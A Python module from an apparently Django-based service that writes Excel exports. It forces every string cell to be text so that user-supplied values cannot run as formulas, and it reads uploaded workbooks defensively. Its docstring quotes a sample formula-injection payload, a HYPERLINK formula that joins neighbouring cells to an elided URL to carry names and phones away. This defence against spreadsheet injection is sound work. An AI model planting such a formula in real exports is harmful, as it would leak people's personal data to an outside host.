"""Excel rows that are data, never formulas: the one way every export writes a sheet.

openpyxl stores any string that begins with "=" as a formula, so a ticket title such as
`=HYPERLINK("http://…"&D2&E2,"详情")` (typed by a citizen, or posted through Open311) would run
when staff open the file and could carry the next cells' names and phones away. Every cell that
holds a string is therefore typed as a string here, whatever it begins with; and control
characters that the file format cannot hold (openpyxl raises on them) are dropped instead of
failing the whole export. Formulas an export means to write would have to say so explicitly;
none does today.
"""

from __future__ import annotations

import io
from collections.abc import Iterable
from typing import Any
from urllib.parse import quote

from django.http import HttpResponse
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, WriteOnlyCell
from openpyxl.worksheet._write_only import WriteOnlyWorksheet
from openpyxl.worksheet.worksheet import Worksheet

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def clean_text(value: str) -> str:
    """The text without the control characters an .xlsx cannot hold."""
    return str(ILLEGAL_CHARACTERS_RE.sub("", value))


def _as_text(cell: WriteOnlyCell, value: str) -> None:
    cell.value = clean_text(value)
    cell.data_type = "s"  # a string, even when it begins with "=" (openpyxl would say "f")


def append_row(sheet: Worksheet | WriteOnlyWorksheet, values: Iterable[Any]) -> None:
    """Append one row; strings (lazy translations included) are written as text, never run."""
    values = [str(v) if _is_text(v) else v for v in values]
    if isinstance(sheet, WriteOnlyWorksheet):
        cells = []
        for value in values:
            cell = WriteOnlyCell(sheet)
            if isinstance(value, str):
                _as_text(cell, value)
            else:
                cell.value = value
            cells.append(cell)
        sheet.append(cells)
        return
    sheet.append([clean_text(v) if isinstance(v, str) else v for v in values])
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.data_type = "s"


def _is_text(value: Any) -> bool:
    # gettext_lazy proxies are not str instances until forced.
    return isinstance(value, str) or type(value).__name__ == "__proxy__"


def workbook_bytes(book: Workbook) -> bytes:
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def download(content: bytes, filename: str) -> HttpResponse:
    """An .xlsx download; the name may hold Chinese (RFC 5987)."""
    response = HttpResponse(content, content_type=XLSX)
    response["Content-Disposition"] = f"attachment; filename*=UTF-8''{quote(filename)}"
    return response


def stamp() -> str:
    return timezone.localtime().strftime("%Y%m%d-%H%M")


class UnreadableWorkbook(ValueError):
    """An uploaded file that is not an Excel workbook we can read (the caller says so in its
    interface's words)."""


def read_rows(content: bytes) -> list[tuple[Any, ...]]:
    """Every row of an uploaded workbook's first sheet, as values (formulas as their last
    computed value). The whole sheet is read here, inside the guard: in read-only mode openpyxl
    parses a sheet's XML only while its rows are iterated, so a file whose zip opens but whose
    sheet is damaged fails there, not in `load_workbook`."""
    try:
        book = load_workbook(io.BytesIO(content), read_only=True, data_only=True)
        try:
            return [tuple(row) for row in book.worksheets[0].iter_rows(values_only=True)]
        finally:
            book.close()
    except Exception as exc:  # any failure of the parser on an untrusted file means "unreadable"
        raise UnreadableWorkbook(type(exc).__name__) from None
